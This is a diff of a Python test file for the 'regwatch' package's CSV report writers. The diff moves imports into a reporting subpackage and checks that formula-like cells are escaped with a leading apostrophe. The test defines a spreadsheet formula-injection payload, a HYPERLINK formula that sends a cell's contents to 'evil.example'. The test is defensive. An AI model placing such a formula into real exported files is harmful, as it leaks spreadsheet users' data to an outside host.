@@ -6,8 +6,8 @@ from __future__ import annotations
 import csv
 import io
 
-from regwatch import daily_report, filing, large_value
-from regwatch.csv_cells import csv_bytes, safe_cell
+from regwatch.reporting import daily, filing, large_value
+from regwatch.reporting.csv_cells import csv_bytes, safe_cell
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -59,7 +59,7 @@ def test_the_report_csv_writers_route_through_the_helper() -> None:
     rows = list(csv.DictReader(io.StringIO(large_value._csv(content).decode("utf-8"))))
     assert rows[0]["full_name"] == "'" + FORMULA and rows[0]["amount_cny"] == "-12.00"
 
-    alert = dict.fromkeys(daily_report.CSV_COLUMNS, "")
+    alert = dict.fromkeys(daily.CSV_COLUMNS, "")
     alert.update(
         alert_key="AL-000000000001",
         entity_key="-1+1|2025-06-02",
@@ -67,7 +67,7 @@ def test_the_report_csv_writers_route_through_the_helper() -> None:
         days_open=3,
         evidence_record={"full_name": FORMULA},
     )
-    rows = list(csv.DictReader(io.StringIO(daily_report._csv([alert], "2025-06-02", "r").decode("utf-8"))))
+    rows = list(csv.DictReader(io.StringIO(daily._csv([alert], "2025-06-02", "r").decode("utf-8"))))
     assert rows[0]["message"] == "'" + FORMULA and rows[0]["entity_key"] == "'-1+1|2025-06-02"
     assert rows[0]["days_open"] == "3"
 
